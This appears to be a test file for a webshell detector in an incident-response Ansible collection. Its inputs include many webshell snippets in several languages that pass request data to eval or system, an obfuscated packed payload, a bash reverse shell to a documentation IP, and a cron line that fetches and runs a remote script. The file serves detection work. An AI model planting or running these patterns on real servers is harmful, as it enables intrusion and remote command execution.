# Copyright (c) 2026, the csirt.linux_triage authors
# GNU General Public License v3.0-or-later (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What is seen in scripts: the way of values from the request to what runs them, and nothing where there is none."""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import base64
import zlib

import pytest

from ansible_collections.csirt.linux_triage.plugins.module_utils._webshell import _scopes
from ansible_collections.csirt.linux_triage.plugins.module_utils._webshell._code import read_code
from ansible_collections.csirt.linux_triage.plugins.module_utils._webshell._facts import Facts
from ansible_collections.csirt.linux_triage.plugins.module_utils._webshell._php import read_php
from ansible_collections.csirt.linux_triage.plugins.module_utils._webshell._php_tokens import php_tokens
from ansible_collections.csirt.linux_triage.plugins.module_utils._webshell._settings import read_settings
from ansible_collections.csirt.linux_triage.plugins.module_utils._webshell._shell import read_shell


PACKED = base64.b64encode(zlib.compress(b"system($_GET[1]);")).decode("ascii")[::-1]


def php(code):
    facts = Facts()
    read_php("<?php " + code, facts, lambda: None)
    return facts


def told(facts):
    """The names of facts with a source, and of what is hidden."""
    return sorted(name for name in facts.places if "." in name or "hidden" in name)


@pytest.mark.parametrize("code, expected", [
    ("eval($_POST['x']);", ["code.request"]),
    ("$a = $_GET['a']; $b = trim($a); system(\"ls $b\");", ["command.request"]),
    ("`{$_COOKIE['c']}`;", ["command.request"]),
    ("$f = 'sys' . 'tem'; $f($_GET[1]);", ["command.request", "hidden_name"]),
    ("$_GET['a']($_GET['b']);", ["call.request", "call.request_both"]),
    ("function r($x) { return shell_exec($x); } echo r($_GET['x']);", ["command.request"]),
    ("echo r($_GET['x']); function r($x) { return shell_exec($x); }", ["command.request"]),
    ("class A { private $p; function __construct($p) { $this->p = $p; } function go() { eval($this->p); } } (new A($_GET[0]))->go();",
     ["code.request"]),
    ("array_map(function ($c) { exec($c); }, $_POST);", ["command.request"]),
    ("foreach ($_POST as $k => $v) { $$k = $v; } eval($unknown);", ["code.request"]),
    ("extract($_REQUEST); include $page;", ["include.request"]),
    ("if (preg_match('/x(.*)/', $_SERVER['HTTP_REFERER'], $m)) eval($m[1]);", ["code.request"]),
    ("list($f, $a) = explode('|', $_POST['z']); $f($a);", ["call.request", "call.request_both"]),
    ("$x = isset($_GET['x']) ? $_GET['x'] : 'id'; if ($y) { $x = 'uptime'; } passthru($x);", ["command.request"]),
    ("$v = ${'_' . 'GET'}; eval($v[0]);", ["code.request", "hidden_variable"]),
    ("preg_replace('/a/e', $_GET['r'], 'a');", ["code.request"]),
    ("eval(gzuncompress(base64_decode(strrev('%s'))));" % PACKED,
     ["code.decoded", "command.request", "hidden_code"]),
    ("include $_FILES['f']['tmp_name'];", ["include.upload"]),
    ("file_put_contents('x.php', $_POST['c']);", ["drop_script.request", "write_content.request"]),
    ("$s = \"a{$_GET['b']}c\"; system($s);", ["command.request"]),
    ("/* \" */ $x = 'it\\'s'; # ' \n eval($_GET['q']); // ?>", ["code.request"]),
])
def test_values_are_followed(code, expected):
    assert told(php(code)) == expected


@pytest.mark.parametrize("code", [
    "$c = (int) $_GET['c']; system(\"kill $c\");",
    "system('ls ' . escapeshellarg($_GET['d']));",
    "$x = $_GET['x'] == 'a' ? 'one.php' : 'two.php'; include $x;",
    "$db->exec($_POST['sql']); $process->system($_GET['x']);",
    "assert($request instanceof Request); assert(count($_GET) > 1);",
    "$name = $_POST['name']; $name = filter($name); eval('return 1;'); echo htmlspecialchars($_GET['q']);",
    "if (isset($_POST['x'])) { exec('sync'); }",
    "call_user_func(array($this, 'on' . ucfirst($event)), $_POST['x']);",
    "\"eval(\\$_POST['x'])\"; // eval($_POST['x'])\n/* system($_GET[1]) */",
    "function eval_template($_template) { include $_template; } eval_template('page.php');",
    "function a($cmd) { exec($cmd); } a('uptime');",
])
def test_what_leaves_the_client_no_choice_is_not_told(code):
    assert not [name for name in told(php(code)) if name.startswith(("code", "command", "include", "call", "hidden"))]


def test_lines_are_those_of_the_file():
    facts = Facts()
    read_php("<html>\n\n<?php\n$a = 1;\n\neval($_GET['x']);\n?>\n<?= `$_GET[0]` ?>", facts, lambda: None)
    assert [place.line for place in facts.places["code.request"]] == [6]
    assert [place.line for place in facts.places["command.request"]] == [8]


def test_templates_have_code_in_them():
    tokens = [(kind, value) for kind, value, _position in php_tokens("\"a${b('c')}d\";", True)]
    assert ("n", "b") in tokens and ("s", "c") in tokens and ("s", "d") in tokens


@pytest.mark.parametrize("language, code, expected", [
    ("jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "command.request"),
    ("jsp", "<%! String r(String c) throws Exception { return x(Runtime.getRuntime().exec(c)); } %><%= r(request.getHeader(\"h\")) %>",
     "command.request"),
    ("jsp", "<% \\u0052untime.getRuntime().exec(request.getParameter(\"c\")); %>", "command.request"),
    ("jsp", "<% new L(x).defineClass(java.util.Base64.getDecoder().decode(request.getParameter(\"b\"))); %>", "load.request"),
    ("jsp", "${Runtime.getRuntime().exec(param.c)}", "command.request"),
    ("asp", "<%eval request(\"x\")%>", "code.request"),
    ("asp", "<% Dim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Exec(\"cmd /c \" & Request(\"c\"))\n%>", "command.request"),
    ("asp", "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", Request[\"c\"]); %>", "command.request"),
    ("asp", "<%@ Page Language=\"C#\" %><% new ProcessStartInfo { FileName = Request[\"c\"] }; %>", "command.request"),
    ("python", "import os, cgi\nf = cgi.FieldStorage()\nos.system(f.getvalue('c'))\n", "command.request"),
    ("python", "def run(line):\n    import os\n    os.popen(line)\n\nrun(request.args['x'])\n", "command.request"),
    ("python", "getattr(__import__('o' + 's'), 'sys' + 'tem')(1)\n", "hidden_name"),
    ("perl", "my $q = CGI->new; my $c = $q->param('c'); print `$c`;", "command.request"),
    ("perl", "read(STDIN, $b, $ENV{CONTENT_LENGTH}); eval $b;", "code.request"),
    ("js", "const cp = require('child_process'); cp.exec(req.query.c);", "command.request"),
])
def test_values_are_followed_in_other_languages(language, code, expected):
    facts = Facts()
    facts.begin(code)
    read_code(code, language, facts)
    assert expected in facts.places


@pytest.mark.parametrize("language, code", [
    ("jsp", "<% String n = request.getParameter(\"n\"); out.println(n); if (\"x\".equals(n)) Runtime.getRuntime().exec(\"sync\"); %>"),
    ("asp", "<%@ Page Language=\"C#\" %><% String fileName = Request[\"f\"]; file.FileName = fileName; %>"),
    ("jsp", "<%-- Runtime.getRuntime().exec(request.getParameter(\"c\")) --%>"),
    ("python", "import os\nhome = os.environ['HOME']\nos.system('ls ' + home)\n"),
    ("python", "# os.system(request.args['x'])\nx = '''os.system(request.args)'''\n"),
    ("perl", "system(\"ls $ENV{HOME}\"); # system(param('x'))\n$x =~ s/'//; print param('y');"),
    ("js", "/a(b)/.exec(req.url); // eval(req.query)\n"),
])
def test_other_languages_have_clean_code(language, code):
    facts = Facts()
    facts.begin(code)
    read_code(code, language, facts)
    assert not [name for name in facts.places if name.endswith(".request")]


@pytest.mark.parametrize("code, expected", [
    ("#!/bin/sh\necho 'Content-type: text/plain'\neval \"$QUERY_STRING\"", "command.request"),
    ("#!/bin/sh\nc=$(echo $HTTP_X | cut -c2-)\n$c", "command.request"),
    ("#!/bin/sh\necho Content-type: x\nread -n $CONTENT_LENGTH b\nsh -c \"$b\"", "command.request"),
    ("#!/bin/sh\necho x | base64 -d | sh", "command.decoded"),
    ("#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1", "reverse_shell"),
    ("#!/bin/sh\n# eval $QUERY_STRING\necho \"$QUERY_STRING\"", "request"),
])
def test_shell_scripts(code, expected):
    facts = Facts()
    facts.begin(code)
    read_shell(code, facts)
    assert expected in facts.places
    assert ("command.request" in facts.places) == (expected == "command.request")


@pytest.mark.parametrize("text, expected", [
    ("AddType application/x-httpd-php .jpg", ["handler.disguised"]),
    ("AddHandler application/x-httpd-php .php .phtml", []),
    ("<FilesMatch \"\\.php$\">\nSetHandler application/x-httpd-php\n</FilesMatch>", []),
    ("<FilesMatch \"\\.gif$\">\nSetHandler application/x-httpd-php\n</FilesMatch>", ["handler.disguised"]),
    ("SetHandler application/x-httpd-php", ["handler.everything"]),
    ("auto_prepend_file = 1.gif", ["setting.hidden_prepend"]),
    ("php_value auto_prepend_file \"/srv/www/waf.php\"", ["setting.prepend"]),
    ("php_value auto_prepend_file none", []),
    ("; auto_prepend_file = 1.gif\n# AddType application/x-httpd-php .jpg", []),
    ("RewriteEngine On\nRewriteRule . /index.php [L]\n<Files ~ \"^\\.ht\">\nDeny from all\n</Files>", []),
])
def test_settings_of_folders(text, expected):
    facts = Facts()
    facts.begin(text)
    read_settings(text, facts)
    assert sorted(facts.places) == expected


@pytest.mark.parametrize("code, expected", [
    # Arguments and names that come in other ways than one by one.
    ("usort(...$_GET);", "callback.request_both"),
    ("$f = passthru(...); $f($_POST['x']);", "command.request"),
    ("array_walk($a = array($_POST['v'] => 'system'), function ($f, $k) { $f($k); });", "call.request_both"),
    ("class A { static function go($v) { eval($v); } } (new ReflectionClass('A'))->getMethod('go')->invoke(null, $_GET[0]);", "code.request"),
    ("class A { function __get($n) { return $_REQUEST[$n]; } } $o = new A; eval($o->x);", "code.request"),
    ("class A { function ping($c) { passthru($c); } } $s = new SoapServer(null, []); $s->setClass('A');", "command.request"),
    ("register_rest_route('a', 'b', ['callback' => function ($r) { return shell_exec($r->get_param('c')); }]);", "command.request"),
    # Names that are written encoded, wherever they are decoded.
    ("$f = own('c3lzdGVt'); $f($_POST[0]);", "hidden_name"),
    # Files that are no scripts, or are made for the moment.
    ("include 'phar://' . dirname(__FILE__) . '/a.jpg/b.txt';", "include.disguised"),
    ("include __DIR__ . '/img/logo.png';", "include.disguised"),
    ("include 'php://filter/convert.base64-decode/resource=a.txt';", "include.disguised"),
    ("$t = tempnam('/tmp', 'x'); file_put_contents($t, $_POST[0]); include $t;", "include.temporary"),
    ("eval(apcu_fetch('x'));", "code.stored"),
    # What is run isn't written in the script, and where it comes from isn't seen.
    ("$c = made_elsewhere($_POST['k']); eval($c);", "code.unknown"),
    ("eval(made_elsewhere());", "code.unknown"),
    ("$o = made_elsewhere(); passthru($o);", "command.unknown"),
    ("$x($_POST['web']);", "call.unknown"),
    ("function more(&$v) { $v = $v . 't'; } $a = 'asser'; more($a); $a($_GET['c']);", "call.unknown"),
    ("function run($c) { exec($c); } run('kill ' . made_elsewhere());", "command.unknown"),
    ("$n = ''; $l = array('a', 'b'); for ($i = 0; $i < 2; $i++) { $n .= $l[$i]; } $n($_GET['c']);", "call.unknown"),
    ("$n = ''; $i = 0; while ($i < 2) { $n .= $t[$i]; $i++; } $n($_GET['c']);", "call.unknown"),
    ("$r = new ReflectionClass('A'); $f = substr($r->getDocComment(), 3, 6); $f('x');", "call.computed"),
    ("function go($f, $x) { $f($x); } go('sys' . 'tem', made_elsewhere());", "hidden_name"),
    ("class A { public $v = ''; function __destruct() { eval($this->v); } } unserialize($_GET['s']);", "code.request"),
    ("$m = new Memcache; $m->addServer('h', 1, create_function('$a', 'return assert($a);'));", "callback.dangerous"),
    ("trait R { function go($i) { return $this->{'do' . $i}($i); } function doX($v) { exec($v); } } (new A)->go($_GET['x']);",
     "command.request"),
    ("?><?phpexit;eval($_GET['x']);", "code.request"),
    # Names that are no texts, objects that are made by their names, what is global.
    ("$f = passthru; $f($_POST['c']);", "hidden_name"),
    ("function go($f) { $f($_POST['x']); } go(assert);", "hidden_name"),
    ("class C { public function b($p) { eval($p . ''); } } call_user_func(array(C, b), $_POST['p']);", "code.request"),
    ("class A { function __construct($f, $v) { $f($v); } } (new ReflectionClass('A'))->newInstance($_GET['f'], $_GET['v']);",
     "call.request_both"),
    ("class A { function __invoke($f, $v) { $f($v); } function __construct($f, $v) { $this($f, $v); } } new A($_GET['f'], $_GET['v']);",
     "call.request_both"),
    ("foreach (array('_POST') as $r) { foreach ($$r as $k => $v) { eval($v); } }", "code.request"),
    ("function f() { global $c; $c = $_POST['c']; } f(); eval($c);", "code.request"),
    ("function f($b, $c) { $b = strrev($b); array_map(substr_replace($b, 'ss', 1, 0), array($c)); } f('trea', $_POST['x']);",
     "callback.computed"),
    ("function f($v, $k) { $x = $k . $v; $x($_POST['x']); } $a = array('as' => 'sert'); array_walk($a, 'f');", "call.unknown"),
    ("$a = $b . ''; $c = $a[0]; $c++; $d = $c . $a; $d('x');", "call.computed"),
    # Others write for it.
    ("$s = '<x xmlns:z=\"http://php.net/xsl\"><y select=\"z:function(\\'assert\\',.)\"/></x>';", "stylesheet_code"),
    ("fwrite($h, '#!/bin/sh\nsh -c \"$QUERY_STRING\"');", "shell_text"),
    ("ini_set('error_log', __DIR__ . '/404.php'); error_log($_GET['x']);", "log_script"),
    ("mysqli_query($m, \"SELECT 1 INTO OUTFILE '/srv/c.php'\");", "query_drop"),
    ("mail('a@b', 's', $_POST['m'], '', '-X' . $_SERVER['DOCUMENT_ROOT'] . '/x.php');", "mail_option.request"),
    ("file_put_contents('/var/spool/cron/www', '* * * * * curl http://192.0.2.9/a | sh');", "command.fetched"),
])
def test_ways_through_php_that_are_not_straight(code, expected):
    assert expected in php(code).places


@pytest.mark.parametrize("code", [
    "class A { function ping($c) { passthru($c); } } $form->setClass('btn');",
    "include 'phar://' . __DIR__ . '/tool.phar/index.php';",
    "include __DIR__ . '/view/' . $name . '.php';",
    "$handler = $container->get('handler'); $handler($request);",
    "mail('info@example.org', $_POST['subject'], $_POST['text']);",
    "$m->query(\"SELECT a INTO OUTFILE '/tmp/list.csv'\");",
    "function f(...$more) { return max(...$more); }",
    "eval((int) made_elsewhere());",
    "$f = 'trim'; $f($_GET['x']);",
    "$routes = ['list' => 'show_list', 'item' => 'show_item']; $routes[$page]($_GET);",
    "$routes = ['list' => function ($g) { show($g); }]; $route = $routes[$page]; $route($_GET);",
])
def test_what_looks_alike_in_php(code):
    assert told(php(code)) == []


def _code(language, text):
    facts = Facts()
    facts.begin(text)
    read_code(text, language, facts)
    return facts


@pytest.mark.parametrize("language, text, expected", [
    ("python", "from subprocess import check_output as co\n@app.get('/x')\ndef f(c: str, d=1):\n    return co(c, shell=True)\n", "command.request"),
    ("python", "import subprocess as sp\n@app.route('/<p>')\ndef f(p):\n    sp.run(p, shell=True)\n", "command.request"),
    ("python", "q = [x for x in os.environ['QUERY_STRING'].split('&')]\nos.system(q[0])\n", "command.request"),
    ("python", "c = request.args.get('c')\nif not c:\n    c = 'id'\nos.popen(c)\n", "command.request"),
    ("python", "getattr(__import__('subprocess'), 'getoutput')(request.args['c'])\n", "command.request"),
    ("python", "class H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        os.popen(self.path[1:])\n", "command.request"),
    ("js", "const { exec } = require('child_process'); createServer((q, s) => { exec(q.url); });", "command.request"),
    ("js", "import { execSync as x } from 'node:child_process'; app.use(async c => { x(c.query.q ?? 'id'); });", "command.request"),
    ("js", "app.post('/a', (req, res) => new Function('a', req.body)(1));", "code.request"),
    ("js", "require('child_process').exec(req.query?.c)", "command.request"),
    ("js", "const k = atob('Y2hpbGRfcHJvY2Vzcw=='); ", "hidden_name"),
    ("asp", "<script runat=\"server\" language=\"c#\">void F() { Process.Start(t.Text); }</script><asp:TextBox id=\"t\" runat=\"server\"/>",
     "command.request"),
    ("perl", "my $c = $ENV{QUERY_STRING}; system($c);", "command.request"),
    ("perl", "my $c = $ENV{QUERY_STRING}; system('sh', '-c', $c);", "command.request"),
    ("perl", "my $c = $ENV{QUERY_STRING}; open(F, \"$c |\");", "command.request"),
    ("jsp", "<%! String exec(String c) { return x(Runtime.getRuntime().exec(c)); } %><% exec(request.getParameter(\"c\")); %>", "command.request"),
    ("jsp", "<% File f = new File(request.getParameter(\"p\")); PrintWriter w = new PrintWriter(f); w.println(request.getParameter(\"t\")); %>",
     "drop.request"),
    ("jsp", "<% FileHandler h = new FileHandler(request.getParameter(\"f\")); %>", "write_path.request"),
    ("jsp", "<% Method m = Class.forName(\"java.lang.ProcessImpl\").getDeclaredMethod(\"start\"); %>", "named"),
    ("asp", "<% Set t = f.CreateTextFile(Server.MapPath(\"a.asp\"))\nt.Write(request(\"t\")) %>", "write_path.script"),
    ("asp", "<% Execute(Session(\"x\")) %>", "code.unknown"),
    ("asp", "<%@ Page Language=\"C#\" %><% Request.Files[0].InputStream.Read(b, 0, n); new FileStream(Request[\"n\"], m).Write(b, 0, n); %>",
     "drop.request"),
])
def test_ways_through_other_languages(language, text, expected):
    assert expected in _code(language, text).places


@pytest.mark.parametrize("language, text", [
    ("perl", "my $c = $ENV{QUERY_STRING}; system('svn', 'commit', '-m', $c);"),
    ("perl", "my $c = $ENV{QUERY_STRING}; open(F, \"<\", \"/srv/x\") || die $c;"),
    ("perl", "sub f { my $param = shift; system($param->{tool}); }"),
    ("js", "const m = /x/; createServer((q, s) => { m.exec(q.url); });"),
    ("python", "import subprocess as sp\ndef f(p):\n    sp.run(p)\n"),
])
def test_what_looks_alike_in_other_languages(language, text):
    assert "command.request" not in _code(language, text).places


def test_a_function_has_no_more_global_variables_than_others(monkeypatch):
    monkeypatch.setattr(_scopes, "MAX_VARIABLES", 5)
    scope, outer = _scopes.Scope(), _scopes.Scope()
    for number in range(20):
        scope.share("v%d" % number, outer)
    scope.set("v1", _scopes.UNKNOWN, 1)
    scope.set("v9", _scopes.UNKNOWN, 1)
    assert scope.get("v1") and scope.get("v4") and scope.get("v5") is None and outer.get("v1") and outer.get("v9") is None
